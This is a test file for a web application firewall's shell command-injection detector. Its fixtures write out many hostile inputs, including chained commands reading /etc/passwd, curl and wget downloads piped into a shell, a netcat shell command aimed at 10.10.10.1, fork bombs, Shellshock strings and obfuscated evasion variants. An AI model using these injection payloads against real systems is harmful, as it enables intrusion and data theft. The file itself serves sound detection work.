import { existsSync, readdirSync, readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { decodeValue } from '../normalize/decode.ts'
import type { Finding } from './finding.ts'
import { detectShell, mayBeShell, scanShell, startsAsShellWord } from './shell.ts'

const scan = (value: string): Finding[] => {
  const out: Finding[] = []
  scanShell({ value, lower: value.toLowerCase(), kind: 'arg', level: 4 }, out)
  return out
}
/** The rules detectShell reports for `v` as a value of `kind` at `level`. */
const rulesAt = (v: string, level: 1 | 2 | 3, kind: 'arg' | 'form' | 'json'): string[] => {
  const out: Finding[] = []
  detectShell({ value: v, lower: v.toLowerCase(), kind, level }, out)
  return out.map((f) => f.rule)
}

/** The value's first word (command-word characters) is followed at once by a quote or a caret. */
const QUOTE_OR_CARET_IN_FIRST_WORD = /^[a-z0-9_.\/-]+['"^]/i

describe('the command-injection pre-screen', () => {
  it('skips only values where the scan finds nothing: commands, flags, hyphens and paths without a separator, $, -c, a / after whitespace or ://', () => {
    const words = ['bash', 'sh', 'cat', 'ls', 'id', 'whoami', 'nc', 'curl', 'wget', 'python', 'sleep', 'ping', 'echo', '-la', '-e', '-c', '--help', '-', '--',
      't-shirt', 'usb-c', 'etc', 'passwd', 'x.exe', '"', "'", '\\', '^', '(', ')', '{', '}', '<', '>', '5', 'mum', 'c',
      '/', '/etc', '/etc/passwd', '/bin/sh', '/tmp/x', 'm/l', '12/05', 'http://e.example/a.sh', 'ftp:', '//', ':', '\u00a0', '/root']
    const value = fc.array(fc.tuple(fc.constantFrom(...words), fc.constantFrom('', ' ', '\t', '  ')), { minLength: 1, maxLength: 8 }).map((p) => p.map(([w, s]) => w + s).join(''))
    fc.assert(
      fc.property(value, (v) => {
        // A quote or caret inside the first word (`bash''`, `c''at`, `c^md`) is not read by the pre-screen, by design
        // (joinedFirstWord): the engine sends this detector plain values only when they start with a quote.
        if (mayBeShell(v.toLowerCase()) || QUOTE_OR_CARET_IN_FIRST_WORD.test(v)) return
        expect(scan(v)).toEqual([])
      }),
      { numRuns: 3000 },
    )
    expect(scan("bash''")).not.toEqual([])
    expect(mayBeShell("bash''")).toBe(false)
    // So is a caret there (fast-check drew `bash^bash/etc/passwd bash` once in a few thousand runs).
    expect(scan('bash^bash/etc/passwd bash')).not.toEqual([])
    expect(mayBeShell('bash^bash/etc/passwd bash')).toBe(false)
    // A digit after the backslash joins the word too (the scan reads `ping\5/bin/sh` as a path to sh); one draw in ~300k.
    expect(scan('ping\\5/bin/sh')).not.toEqual([])
    expect(mayBeShell('ping\\5/bin/sh')).toBe(true)
  })

  it('passes every payload fixture and attack-corpus value the scan finds a command in, at any level', () => {
    const rules = new URL('../rules/', import.meta.url)
    const corpora = new URL('../../../../../bench/waf/corpora/', import.meta.url)
    const sources = JSON.parse(readFileSync(new URL('attack-sources.json', corpora), 'utf8')) as Record<string, Array<{ path: string }>>
    const lines = [
      ...readdirSync(rules).flatMap((d) => ['attack', 'benign'].map((k) => new URL(`${d}/payloads/${k}.txt`, rules))).filter((u) => existsSync(u)),
      ...Object.entries(sources).flatMap(([dir, files]) => files.map((f) => new URL(`${dir}/${f.path}`, corpora))),
    ].flatMap((u) => readFileSync(u, 'utf8').split('\n'))
    let found = 0
    for (const line of lines.filter((l) => l.trim() !== '')) {
      const value = decodeValue(line.replace(/\r$/, '').replaceAll('\\r', '\r').replaceAll('\\n', '\n'))
      if (scan(value).length === 0) continue
      found++
      expect(mayBeShell(value.toLowerCase()), value).toBe(true)
    }
    expect(found).toBeGreaterThan(100)
  })

  it('still runs where a command can be found', () => {
    for (const v of ['bash -c id', 'cat /etc/passwd', 'x; whoami', 'x && wget http://e.example/a.sh', '$(id)']) {
      const out: Finding[] = []
      detectShell({ value: v, lower: v.toLowerCase(), kind: 'arg', level: 2 }, out)
      expect(out.map((f) => f.category), v).toEqual(['rce'])
    }
  })
})

describe('a command after a line break', () => {
  const at2 = (v: string): string[] => rulesAt(v, 2, 'form')

  it('is chained to the value when the line before is a parameter value, however short', () => {
    for (const v of ['x\ncat /etc/passwd', '127.0.0.1\nid', 'Hello\ncurl http://e.example/a.sh', 'order 12\n\nwget http://e.example/x']) {
      expect(at2(v), v).toEqual(['waf.rce.command-chain'])
    }
  })

  it('is quoted in a message when the line before is a sentence (level 3 only)', () => {
    const ticket = "Hello, I'm integrating your API. This is what I send:\n\ncurl -X POST https://shop.example/api/cart -d '{\"sku\":\"A1\"}'\n\nand I get a 500."
    expect(at2(ticket)).toEqual([])
    expect(at2("Hi,\nI ordered it on 2024-03-01.\nls -la shows nothing in my downloads")).toEqual([])
    const out: Finding[] = []
    detectShell({ value: ticket, lower: ticket.toLowerCase(), kind: 'form', level: 3 }, out)
    expect(out.map((f) => f.rule)).toEqual(['waf.rce.command-chain'])
    // Chained on the same line, it still counts at level 2.
    expect(at2('Please see the output below:\ncurl http://e.example/a.sh | sh')).toEqual(['waf.rce.command-chain'])
  })
})

describe('a command in backticks', () => {
  const at = (v: string, level: 2 | 3): string[] => rulesAt(v, level, 'json')

  it('is a Markdown code span inside a sentence: level 3 only, the chain within it too', () => {
    for (const v of ['Works on my Mac: `ls -la ~/Downloads | grep invoice` finds the PDF, but the link 404s.', '<p>Tried `curl -s https://shop.example/cart.js | jq .items` and the cart is empty</p>', 'Run `id` and send me what it says']) {
      expect(at(v, 2), v).toEqual([])
      expect(at(v, 3), v).toHaveLength(1)
    }
  })

  it('is command substitution when no sentence surrounds it, or the span is glued to the value', () => {
    for (const v of ['`id`', ';`whoami`', 'x`cat /etc/passwd`', 'name `wget http://e.example/a.sh` x', 'a b c`id` d e f', 'see `id`;ls -la /tmp']) {
      expect(at(v, 2), v).not.toEqual([])
    }
  })
})

describe('a line break written as the escape \\n', () => {
  const at2 = (v: string): string[] => rulesAt(v, 2, 'arg')

  it('separates commands as the break does', () => {
    for (const v of ['\\nid\\n', ';id\\n', '\\n/bin/ls -al\\n', 'x\\r\\ncat /etc/passwd']) expect(at2(v), v).toEqual(['waf.rce.command-chain'])
  })

  it('starts no command before words, paths or code that are not one', () => {
    for (const v of ['C:\\new\\notes', 'printf("total: %d\\n", n)', 'ChunkLoadError: Loading chunk 732 failed.\\n(error: https://shop.example/a.js)', 'Line one\\nsort by price please']) expect(at2(v), v).toEqual([])
  })
})

describe('commands written as commix and ZAP write them', () => {
  const at2 = (v: string): string[] => rulesAt(v, 2, 'arg')

  it('finds a wildcard path that expands to a command, a brace expansion, cmd.exe loops and waits, and PowerShell cmdlets', () => {
    for (const v of ["8.8.8.8'||/usr/bin/i?||'", '1`/???/c?t /???/p??s??`', '8.8.8.8`{ls,-la}`', '127.0.0.1$({uname,-a})', ';{sleep,5}', '`{nslookup,abc.oast.fun}`', '|{whoami,x}', '&for %i in (1) do whoami', '127.0.0.1;get-help', 'x|timeout /T 15', "1&for /f \"tokens=*\" %i in ('cmd /c ver') do @echo %i", 'a;start-sleep -s 15']) {
      expect(at2(v), v).not.toEqual([])
    }
  })

  it('finds no command in a wildcard of the root directory alone, which holds no program (CSS notes, /* 1 */)', () => {
    for (const v of ['height: 0; /* 1 */', 'line-height: 1.15; /* 1 */\n  -webkit-text-size-adjust: 100%; /* 2 */', 'x; /b?n', 'a && //*']) expect(at2(v), v).toEqual([])
    for (const v of [';/*/c?t /etc/passwd', 'x; /b??/*sh -c id']) expect(at2(v), v).not.toEqual([])
  })

  it('finds none in prose with wildcards, braces, "for" and hyphenated words', () => {
    for (const v of ['see /???/ for details; /x?', 'Party;get-together', 'for /r/gaming fans; for the win', '{a,b} and {c,d}', 'sizes S/M/L; for kids', 'time out; for you', 'Toys & Games; for /kids']) expect(at2(v), v).toEqual([])
  })
})

describe('a command word with no argument where the value ends', () => {
  const at = (v: string, level: 1 | 2 | 3): string[] => rulesAt(v, level, 'form')

  it('ends a sentence after & or ; when the word is an everyday one (all of the above & more)', () => {
    for (const v of ['all of the above & more', 'shoes, boots; more', 'sale & more', 'cats && more', 'Gifts | More', 'Jeans | Sort']) expect(at(v, 3), v).toEqual([])
  })

  it('is an interpreter reading the process input after & or ; at level 3 only (a search typed up to "tee\'s & sh")', () => {
    for (const v of ["tee's & sh", 'x; bash', 'x && python']) {
      expect(at(v, 2), v).toEqual([])
      expect(at(v, 3), v).toEqual(['waf.rce.command-chain'])
    }
  })

  it('still runs as an interpreter after a pipe, as a probe, or when no word of prose is spelt so', () => {
    for (const v of ['x | sh', 'name | bash', 'x & id', 'x; whoami', 'x & uname', 'x && ls']) expect(at(v, 1), v).toEqual(['waf.rce.command-chain'])
  })
})

describe('a shell whose name is an everyday word (dash)', () => {
  const at = (v: string, level: 1 | 2 | 3): string[] => rulesAt(v, level, 'arg')

  it('is a word of a page title or a product name after a separator: none at any level (Hydrogen | Dash Digital Watch)', () => {
    for (const v of ['Hydrogen | Dash Digital Watch', 'Salt & Dash Seasoning', 'Shop | Dash Air Fryer; 2 qt', 'Home & dash cam']) expect(at(v, 3), v).toEqual([])
  })

  it('still runs with shell arguments, as a pipe target or in a substitution', () => {
    for (const v of ['x | dash', 'name; dash -c id', 'x && dash /tmp/x.sh', '1|dash ./run.sh', 'a;dash<<<id']) expect(at(v, 1), v).toEqual(['waf.rce.command-chain'])
    expect(at('$(dash -c id)', 1)).toEqual(['waf.rce.command-substitution'])
  })

  it('reads the process input when bare after ; or &: level 3 only, as bash does', () => {
    for (const v of ['x; dash', 'x & dash']) {
      expect(at(v, 2), v).toEqual([])
      expect(at(v, 3), v).toEqual(['waf.rce.command-chain'])
    }
  })
})

describe('an everyday probe word that ends a list of words', () => {
  const at = (v: string, level: 1 | 2 | 3): string[] => rulesAt(v, level, 'arg')

  it('is the last item after a phrase and a separator written as prose writes it: level 3 only (wine glass; set)', () => {
    for (const v of ['wine glass; set', 'Kids & Baby; Set', 'Red; blue; set', 'Lexus RX & LS', 'tea cups | env']) {
      expect(at(v, 2), v).toEqual([])
      expect(at(v, 3), v).toEqual(['waf.rce.command-chain'])
    }
  })

  it('still probes when it is the whole value, glued to the value before it, after one word, or followed by more', () => {
    for (const v of ['; set', ';set', 'shoes; id', 'x & id', 'wine glass;set', 'wine glass ;set', '127.0.0.1 & dir', 'foo bar; id; ls', 'report.pdf | ls']) expect(at(v, 1), v).toEqual(['waf.rce.command-chain'])
  })
})

describe('a command line quoted in a message', () => {
  const at = (v: string, level: 2 | 3): string[] => rulesAt(v, level, 'json')

  it('is a fenced code block with text outside it: level 3 only, the chain and $(…) within it too', () => {
    for (const v of ['Same problem here.\n\n```\nping -c 4 8.8.8.8; nslookup shop.example\n```\n\nHTH', 'Quick question:\n\n```bash\ndocker run -d -v $(pwd)/html:/usr/share/nginx/html nginx\n```', 'Setup:\n```\ncat /etc/os-release\n```\nEdit: typo']) {
      expect(at(v, 2), v).toEqual([])
      expect(at(v, 3), v).toHaveLength(1)
    }
  })

  it('is a chain inside a sentence or on a line after one: level 3 only', () => {
    for (const v of ['Q: The instructions say to run Get-ChildItem -Recurse -Filter *.log | Remove-Item -WhatIf - is that right for v2?', 'Tried ls -la ~/.ssh && chmod 600 ~/.ssh/id_ed25519 as the manual says -- no luck.', 'For anyone wondering, I used this:\n\ntail -f /var/log/nginx/error.log | grep -i upstream\n\nand it was fine.', 'The guide says to run docker run -v $(pwd)/html:/srv nginx and then open the page']) {
      expect(at(v, 2), v).toEqual([])
      expect(at(v, 3), v).toHaveLength(1)
    }
  })

  it('still counts when no text surrounds it, the sentence ends before it, the fence is the whole value or a download is piped into an interpreter', () => {
    for (const v of ['```\nid\n```', 'x; cat /etc/passwd', 'ps aux | grep node | xargs kill', 'John Smith; wget http://e.example/a.sh -O /tmp/a', 'Please see the output below:\ncurl http://e.example/a.sh | sh', 'the guide says to run curl http://e.example/a.sh | sh', 'I really like this product and the price; wget http://e.example/x.sh -O /tmp/x', 'the guide says to run this for me: x$(id) and then reboot']) {
      expect(at(v, 2), v).not.toEqual([])
    }
  })
})

describe('a command that needs an operand, given none where the value ends', () => {
  it('closes a list or a title (Bash Cookbook: cat, grep & awk), at every level', () => {
    for (const v of ['Bash Cookbook: cat, grep & awk', 'Sed & Awk; sed', 'copy | paste | rm', 'x && touch', 'Baby & Sleep', 'Home | Sleep', 'table tennis; ping']) expect(rulesAt(v, 3, 'arg'), v).toEqual([])
  })

  it('still runs with an operand', () => {
    for (const v of ['x & awk BEGIN{system("id")}', 'x; sed -n p /etc/passwd', 'x; rm -rf /tmp/x', 'x && chmod +x /tmp/a', 'x; sleep 5', 'x | ping -c 3 8.8.8.8', ';{sleep,5}', ';{rm,-rf,/tmp/x}']) expect(rulesAt(v, 2, 'arg'), v).toEqual(['waf.rce.command-chain'])
  })
})


describe('a command word only a shell makes whole', () => {
  const at = (v: string, level: 1 | 2 | 3): string[] => rulesAt(v, level, 'arg')

  it('starts the value joined across quotes, escapes and empty expansions, or as a brace expansion (level 2)', () => {
    for (const v of ['w\\get localhost', 'ping`` 127.0.0.1', 'pi$()ng 127.0.0.1', 'pi>()ng 127.0.0.1', 'cu$@rl localhost', '{,ifconfig,eth0}', '{l,-lh}s', '{id,}']) {
      expect(at(v, 2), v).toEqual(['waf.rce.command'])
      expect(at(v, 1), v).toEqual([])
    }
  })

  it('joined by quotes, counts after a separator and where a quote opens the value; joined by carets or quotes inside the first word alone, after a separator only (plain characters, read without this detector)', () => {
    for (const v of ["x;'wh'oami", 'x|"w"get localhost', 'x&""p""y""t""h""o""n""3"".""1""0"" ""x""', 'x;c^u^r^l localhost']) expect(at(v, 1), v).toEqual(['waf.rce.command-chain'])
    for (const v of ["'wh'oami", '"w"get localhost', '""p""y""t""h""o""n""3 x']) expect(at(v, 2), v).toEqual(['waf.rce.command'])
    for (const v of ['c^u^r^l localhost', "c''at x", '/"W" size chart']) expect(at(v, 3), v).toEqual([])
  })

  it('runs a variable the value assigned, a here-string, or a versioned interpreter after a separator', () => {
    for (const v of ['a=/etc&&b=/passwd&&c=cat&&$c $a$b', 'a=nc&&$a -nlvp 555', ';`cat<<<who`', "x;python3.10 -c 'import os'", '|{n$u\\c$u,-nlvp,777}']) expect(at(v, 1), v).not.toEqual([])
  })

  it('is none for an apostrophe, a quoted word, an API field list or a URL path with a query', () => {
    for (const v of ["P's and Q's", "L's", '"W" size chart', '{id,name}', '{a,b} and {c,d}', '/p?id=5', "Rock'n'roll & more", "I'd like $ids; more", 'Ke$ha & co', "don't stop"]) expect(at(v, 3), v).toEqual([])
  })
})

describe('a shell function that runs itself', () => {
  it('is a fork bomb when it pipes or backgrounds calls to itself, at level 2', () => {
    for (const v of [':(){ :|:& };:', '.(){ .|.& };.', 'x; test() { test | test & } test', 'f(){ f() | f(); }; f']) {
      expect(rulesAt(v, 2, 'arg'), v).toEqual(['waf.rce.fork-bomb'])
      expect(rulesAt(v, 1, 'arg'), v).toEqual([])
    }
  })

  it('is none in code whose functions call others or join calls with || and &&', () => {
    for (const v of ['function f(){ return f() || g() }', 'render(){ return this.render && x }', 'a() { b | c }', 'x() {x}']) expect(rulesAt(v, 3, 'json'), v).toEqual([])
  })

  it('is Shellshock where a value starts with bash\'s function definition, whatever its body', () => {
    expect(rulesAt('() {', 2, 'arg')).toEqual(['waf.rce.shellshock'])
    expect(rulesAt('() { _; } >_[$($())] { id; }', 2, 'arg')).toEqual(['waf.rce.shellshock'])
    expect(rulesAt('Tuesday () {note}', 3, 'arg')).toEqual([])
  })
})

describe('an editor started with a shell escape', () => {
  it('runs the command after ! among its arguments', () => {
    for (const v of [';vim -c:\\!pwd', ';ex -c:\\!pwd', ';vi x  silent\\\\ \\!whoami  wq', '; vim -c ":!id"']) expect(rulesAt(v, 1, 'form'), v).toEqual(['waf.rce.command-chain'])
  })

  it('is none for the word vi with exclamation marks and no command after them', () => {
    for (const v of ['Season VI; vi !!! so good', 'vi !ls', 'x; vim rocks!']) expect(rulesAt(v, 2, 'form'), v).toEqual([])
  })
})

describe('a value that writes $IFS for its blanks', () => {
  it('needs no shell-shaped arguments for its commands, and ps is a probe', () => {
    for (const v of ['0.5`echo${IFS}crs312`', ';ps', 'x|ps']) expect(rulesAt(v, 1, 'arg'), v).not.toEqual([])
    for (const v of ['0.5`echo crs312`', 'Thanks; ps I love it']) expect(rulesAt(v, 2, 'arg'), v).toEqual([])
  })
})

describe('a program named by its path in a system directory', () => {
  it('is a command line when it starts the value with a flag or a path after it (level 2)', () => {
    for (const v of ["/usr/bin/perl -e 'print readline' x.txt", '/usr/bin/python3 -m http.server', '/bin/sh -i']) expect(rulesAt(v, 2, 'arg'), v).toEqual(['waf.rce.command'])
  })

  it('is none for a directory named in a sentence or a relative path', () => {
    for (const v of ['/usr/bin/ is where it lives', 'bin/python -m x', '/usr/bin/env node']) expect(rulesAt(v, 2, 'arg'), v).toEqual([])
  })
})

describe('the start-of-value shapes of the pre-screen', () => {
  it('are, written out by hand, the shapes this regex reads', () => {
    const shapes = /^(?:[a-z0-9_./-]{0,64}\\[a-z0-9]|(['"])[a-z0-9_./-]{0,64}\1(?:[a-z0-9_./-]|\1)|\{(?!")[^ \t\n\r\f\v{}]*,|[ \t\n\r\f\v]*\([ \t\n\r\f\v]*\)[ \t\n\r\f\v]*\{|\/(?:usr\/(?:local\/)?)?s?bin\/)/i
    const value = fc.array(fc.constantFrom(...'aZ09_./-\'"\\^{}() \t,x\r\nWHusrbinlocal'.split('')), { maxLength: 16 }).map((a) => a.join(''))
    const long = fc.tuple(fc.integer({ min: 60, max: 70 }), fc.constantFrom("'x'y", '^md', '"a"b', ' x')).map(([n, tail]) => 'a'.repeat(n) + tail)
    fc.assert(fc.property(value, (v) => {
      expect(startsAsShellWord(v), JSON.stringify(v)).toBe(shapes.test(v))
    }), { numRuns: 20000 })
    fc.assert(fc.property(long, (v) => {
      expect(startsAsShellWord(v), v).toBe(shapes.test(v))
    }))
    for (const v of ['c\\At', 'python\\3', "'wh'oami", '{id,}', ' ( ) {', '/usr/local/bin/python3 -m x', '{c""a,x}']) expect(startsAsShellWord(v), v).toBe(true)
    for (const v of ["c''at", 'C^md', '"Android"', "Don't", '{"a":1,"b":2}']) expect(startsAsShellWord(v), v).toBe(false)
  })
})

describe('a command behind a wrapper or written with + for its blanks', () => {
  const found = (v: string, kind: 'arg' | 'header' = 'arg'): Finding[] => {
    const out: Finding[] = []
    detectShell({ value: v, lower: v.toLowerCase(), kind, level: 2 }, out)
    return out
  }

  it('is the command the wrapper runs, named with the wrapper, after its options', () => {
    expect(found(';cpulimit -l 100 -f whoami')[0]?.explanation).toContain('"whoami" through "cpulimit" after ";"')
    expect(found('x;sudo -u root nohup id')[0]?.explanation).toContain('"id" through "sudo" and "nohup"')
    expect(found('find . -exec curl e.example \\;').map((f) => [f.rule, f.level])).toEqual([['waf.rce.command', 2]])
    for (const v of ['Time flies; time to sleep', 'x; time who', 'find . -exec curl e.example', 'nohup ifconfig']) expect(found(v), v).toEqual([])
  })

  it("is SQLite's dot command written with blanks after its dot, and not a sentence's full stop", () => {
    expect(found('";\n. shell nc 10.10.10.1 6666 -e sh\n')[0]?.explanation).toContain('"nc" through ".shell"')
    for (const v of ['Great shoes.\n. shell colour is fine', 'x;. shell']) expect(found(v), v).toEqual([])
  })

  it('starts the value with a probe that is no English word and a separator glued to it (level 2), not a blank before it', () => {
    for (const v of ["whoami;0'0'\"", 'uname&x', 'pwd|x']) expect(found(v).map((f) => [f.rule, f.level]), v).toEqual([['waf.rce.command', 2]])
    // Where a command follows the separator, that one counts (here "rm" at level 1, as before).
    expect(found('ifconfig;. rm -rf /;').length).toBeGreaterThan(0)
    for (const v of ['whoami ; who are you, a quiz', 'hostname & domain setup guide', 'ls;cd', 'set;go']) expect(found(v), v).toEqual([])
  })

  it("is cmd.exe's format given a drive to erase, not a format named in a sentence", () => {
    for (const v of ['; format C:', 'x&format d: /q']) expect(found(v).length, v).toBeGreaterThan(0)
    for (const v of ['Print settings; format A: landscape', 'Gift box; format', 'books | format: paperback']) expect(found(v), v).toEqual([])
  })

  it('is a reader of encoded or compressed files, the registry editor or Ansible after a separator, not the words in a sentence', () => {
    for (const v of [';cd /;cd etc;base32 passwd|base32 -d', ';regedit HKLM\\Software\\Microsoft', 'time; ansible all -m ping', 'time; ansible-config dump', ';zstdcat /var/log/app.zst']) expect(found(v).length, v).toBeGreaterThan(0)
    for (const v of ['We use Ansible; it manages our servers and the shop runs fine', 'Base32 vs base64: which one?']) expect(found(v), v).toEqual([])
  })

  it('reads + as a blank after a separator, not in a header nor in a URL query, and says so', () => {
    expect(found('x;c$@at+/etc/passwd')[0]?.explanation).toContain('with + read as a blank')
    expect(found('127.0.0.1+&&+ls /etc').map((f) => f.rule)).toEqual(['waf.rce.command-chain'])
    for (const v of ['cat+/etc/passwd', 'https://e.example/?q=wine+glass;+set&x=1', 'C++ & bash scripting']) expect(found(v), v).toEqual([])
    expect(found('x;c$@at+/etc/passwd', 'header')).toEqual([])
  })
})

describe('the shell itself or a brace list at the start of the value', () => {
  const found = (v: string): Finding[] => {
    const out: Finding[] = []
    detectShell({ value: v, lower: v.toLowerCase(), kind: 'arg', level: 2 }, out)
    return out
  }

  it('is $0 (the shell itself) or an interpreter fed a here-string at the start, and not a price of $0 nor a sentence about <<<', () => {
    expect(found("$0<<<$'\\154\\163'").map((f) => [f.rule, f.level])).toEqual([['waf.rce.command', 2]])
    expect(found('x;$0 -c id')[0]?.explanation).toContain('as $0, the name of the shell')
    for (const v of ["bash<<<'id'", 'sh <<< "id"']) expect(found(v).map((f) => [f.rule, f.level]), v).toEqual([['waf.rce.command', 2]])
    for (const v of ['bash <<< is a here-string, see the manual', 'python <<< snake', '<<< back']) expect(found(v), v).toEqual([])
    for (const v of ['$0', 'Total $0 - free delivery', 'was $10; $0 now', '$0.00 <<< cheapest', 'x; $0 shipping']) expect(found(v), v).toEqual([])
  })

  it('is a brace list starting the value whose first item only a shell joins, not a list of words', () => {
    expect(found("{\\c''\\a\"\"\\t,/\\e''*?/\\p*\\d}").map((f) => [f.rule, f.level])).toEqual([['waf.rce.command', 2]])
    for (const v of ['{id,name}', "{'a','b'}", "{O'Brien's,cat}", '{a:"x",b:1}', '{"sku":"A1","qty":1}']) expect(found(v), v).toEqual([])
  })
})

describe("Windows' account listing probe", () => {
  const found = (v: string): string[] => rulesAt(v, 2, 'arg')

  it('is `net user` or `net localgroup` ending its command after a separator, not a label with net in it', () => {
    for (const v of ['1& net user', 'report.pdf& net localgroup']) expect(found(v), v).toEqual(['waf.rce.command-chain'])
    for (const v of ['Gross & Net View', 'Market & Net Share', 'Salt & net user guide', 'cats & net usernames', 'net user']) expect(found(v), v).toEqual([])
  })
})
